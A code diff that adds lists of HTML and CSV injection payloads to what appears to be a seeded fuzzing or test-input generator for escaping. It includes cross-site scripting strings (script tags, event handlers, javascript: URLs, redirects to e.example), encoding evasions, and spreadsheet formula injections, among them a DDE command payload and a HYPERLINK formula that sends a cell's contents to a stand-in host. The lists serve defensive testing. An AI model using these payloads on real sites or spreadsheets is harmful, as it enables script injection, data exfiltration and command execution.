@@ -226,6 +226,145 @@ export const MARKDOWN_ATTACKS: readonly Kind[] = [
   ['indents', (pick) => pick(['    a', '\ta', '  \n', 'a  ', '\n\n# a', '\n- a', '\r\r> a'])],
 ]
 
+/** What a text can be to a reader of HTML. */
+export const HTML_ATTACKS: readonly Kind[] = [
+  [
+    'elements that act',
+    (pick) =>
+      pick([
+        '<script>alert(1)</script>',
+        '<img src=x onerror=alert(1)>',
+        '<svg/onload=alert(1)>',
+        '<iframe src="javascript:alert(1)">',
+        '<object data=x>',
+        '<a href="javascript:alert(1)">a</a>',
+        '<form action=//e.example><button>',
+        '<input autofocus onfocus=alert(1)>',
+        '<math><mtext><style><img src=x onerror=y>',
+        '<details open ontoggle=alert(1)>',
+        '<video><source onerror=alert(1)>',
+      ]),
+  ],
+  [
+    'the head',
+    (pick) =>
+      pick([
+        '<base href=//e.example>',
+        '<meta http-equiv=refresh content="0;url=//e.example">',
+        '<link rel=stylesheet href=//e.example>',
+        '<style>@import "//e.example"</style>',
+        '<title>own</title>',
+        '<body onload=alert(1)>',
+        '<html manifest=x>',
+      ]),
+  ],
+  [
+    'ends of elements',
+    (pick) =>
+      `</${pick(['title', 'style', 'main', 'body', 'html', 'table', 'pre', 'p', 'li', 'td', 'textarea', 'strong', 'h1'])}${pick(['>', ' >', '\n>', '/>'])}${pick(['<script>alert(1)</script>', '', '<b>'])}`,
+  ],
+  [
+    'attributes',
+    (pick) =>
+      `${pick(['"', "'", '`', ' ', '">', "'>"])}${pick(['onmouseover', 'style', 'href', 'autofocus onfocus'])}=${pick(['alert(1)', '"x"', 'url(//e.example)'])}`,
+  ],
+  [
+    'comments and declarations',
+    (pick) =>
+      pick([
+        '<!-- a',
+        '-->',
+        '--!>',
+        '<!DOCTYPE a>',
+        '<![CDATA[a]]>',
+        '<?php a ?>',
+        '<!--[if IE]>',
+        '<!',
+      ]),
+  ],
+  [
+    'character references',
+    (pick) =>
+      pick([
+        '&lt;b&gt;',
+        '&#60;b>',
+        '&#x3c;b&#x3e;',
+        '&ltscript&gt',
+        '&amp;lt;',
+        '&NotAName;',
+        '&#0;',
+        '&#x110000;',
+        '&',
+        '&#',
+        '&colon;',
+      ]),
+  ],
+  [
+    'what swallows the rest',
+    (pick) =>
+      pick([
+        '<plaintext>',
+        '<textarea>',
+        '<noscript>',
+        '<template>',
+        '<xmp>',
+        '<select>',
+        '<frameset>',
+        '<',
+      ]),
+  ],
+  [
+    'addresses',
+    (pick) =>
+      pick([
+        'http://e.example',
+        'javascript:alert(1)',
+        'data:text/html,x',
+        '//e.example',
+        'url(//e.example)',
+      ]),
+  ],
+  [
+    'other sets of characters',
+    (pick) =>
+      pick([
+        '+ADw-script+AD4-',
+        '\u00bcscript\u00be',
+        '\u2028<b>',
+        '\ufeff<b>',
+        '\u001b$B<b>',
+        '＜script＞',
+      ]),
+  ],
+  ['spaces', (pick) => pick(['  a', 'a  b', 'a\t', '\n', '\r\n', '\f<b>', '\u00a0'])],
+]
+
+/** What a text can be to a spreadsheet and to a reader of comma-separated values. */
+export const CSV_ATTACKS: readonly Kind[] = [
+  [
+    'formulas',
+    (pick) =>
+      `${pick(['=', '+', '-', '@', '＝', '＋', '－', '＠'])}${pick(['1+2', "cmd|' /C calc'!A0", 'HYPERLINK("//e.example?"&A1,"a")', 'SUM(1;2)', 'IMPORTXML(A1,"//a")', '-1', ''])}`,
+  ],
+  [
+    'formulas behind what a reader may leave out',
+    (pick) =>
+      `${pick([' ', '\t', '\r', '\n', '\u00a0', '\u3000', '\ufeff', '\0', "'", "''", '"', "' "])}${pick(['=', '+', '-', '@', '＝'])}1`,
+  ],
+  [
+    'ends of cells and rows',
+    (pick) =>
+      `a${pick([',', ';', '|', '\t', '\n', '\r', '\r\n', '","', '"\r\n"', '\u2028'])}${pick(['=1', '-1', 'b', ''])}`,
+  ],
+  ['quotes', (pick) => pick(['"', '""', '"a"', 'a"b', '"a', "'", '\\"', '“a”', '",', ',"'])],
+  ['spaces', (pick) => pick([' ', '  a', 'a ', '\n', '\r', '\r\n\r\n', '\t', '\u00a0'])],
+  [
+    'numbers, days and other readings',
+    (pick) =>
+      pick(['1e5', '0012', '1-2', '2021-09-18', 'TRUE', 'NULL', '#REF!', 'sep=;', '1,000', '\\N']),
+  ],
+]
+
 /** So many payloads of these kinds, one or three of them each, between words of their own; the same for the same seed. */
 export function payloads(kinds: readonly Kind[], count: number, seed: number): string[] {
   const random = seeded(seed)
